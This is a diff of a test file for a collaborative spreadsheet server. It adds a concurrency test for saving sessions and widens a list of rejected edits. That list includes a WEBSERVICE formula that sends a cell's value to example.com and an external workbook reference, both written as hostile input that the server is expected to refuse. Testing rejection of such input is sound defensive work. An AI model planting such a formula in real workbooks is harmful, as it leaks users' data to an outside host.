@@ -14,7 +14,8 @@ import { type TestServer, openTestServer } from '../../../../test/test-server.ts
 import { codes } from '@dossier/contract/core/codes';
 import { newId } from '../../../platform/ids.ts';
 import { Refusal } from '../../../platform/refusal.ts';
-import { deleteSessions, insertUpdates, sessionOfDocument } from '../sessions/edit-sessions.queries.ts';
+import { deleteSessions, insertUpdates, noteWriting, sessionOfDocument } from '../sessions/edit-sessions.queries.ts';
+import { saveSession } from '../sessions/save-session.ts';
 import { sweepEditSessions } from '../sweep-sessions.ts';
 import { OrderedRoom } from './ordered-room.ts';
 import { workbookRules } from './ordered-rules.ts';
@@ -292,7 +293,9 @@ it('hostile messages end their own connection, and edits that cannot be written 
     { kind: 'addSheet', sheet: 2, name: 'SHEET1', at: 0 },
     { kind: 'addSheet', sheet: 1, name: 'Another', at: 0 },
     { kind: 'addSheet', sheet: 9, name: 'Another', at: 99 },
-    { kind: 'cells', sheet: 1, cells: [{ row: 0, column: 0, formula: 'SUM("' }] },
+    ...['SUM("', 'SUM(', '1+', '[1]Sheet1!A1', 'WEBSERVICE("https://example.com/"&A1)'].map(
+      (formula): WorkbookEdit => ({ kind: 'cells', sheet: 1, cells: [{ row: 0, column: 0, formula }] }),
+    ),
     { kind: 'hide', sheet: 1, axis: 'row', first: 0, last: 1_000_000, hidden: true },
   ];
   for (const edit of impossible) {
@@ -434,6 +437,31 @@ it('what is given up while a version is written stays given up', async () => {
   await expect.poll(async () => (await detail(id)).lockUserName).toBeUndefined();
   expect(await sessionOf()).toMatchObject({ base_seq: 2, changed_at: 0 });
   expect(await cellsOf(id)).toEqual({ '0 0': 'before' });
+});
+
+it('what another server writes while something is given up is saved', async () => {
+  const id = await make('given-up.xlsx');
+  const a = await enter(ann, id);
+  a.edit(cell(0, 0, 'given up'));
+  await expect.poll(() => a.order.length).toBe(1);
+  const [session] = await sessionOfDocument(dossier.services.database.read, { document: Number(id) });
+  const sessionId = session?.id ?? 0;
+  const written = vi.spyOn(workbookRules, 'isWritable').mockImplementationOnce(async () => {
+    const data = JSON.stringify({ origin: { window: 'another-server', number: 0 }, edits: [cell(1, 0, 'theirs')] });
+    await dossier.services.database.write(async (db) => {
+      await insertUpdates(db, [{ id: newId(), session_id: sessionId, person_id: Number(bob.id), data, seq: 2 }]);
+      await noteWriting(db, { id: sessionId, personIds: [Number(bob.id)], at: dossier.services.now() });
+    });
+    return false;
+  });
+  a.send({ kind: 'discard' });
+  await expect.poll(() => a.last('discarded')).toBeDefined();
+  written.mockRestore();
+  await saveSession(dossier.services, sessionId);
+  expect(await cellsOf(id)).toEqual({ '1 0': 'theirs' });
+  expect(await revisions(id)).toMatchObject([{ number: 2 }, { number: 1 }]);
+  const [now] = await sessionOfDocument(dossier.services.database.read, { document: Number(id) });
+  expect(now).toMatchObject({ base_seq: 2, changed_at: 0 });
 });
 
 it('where no file can be made beside a version from elsewhere, what was not saved is kept without who wrote it', async () => {
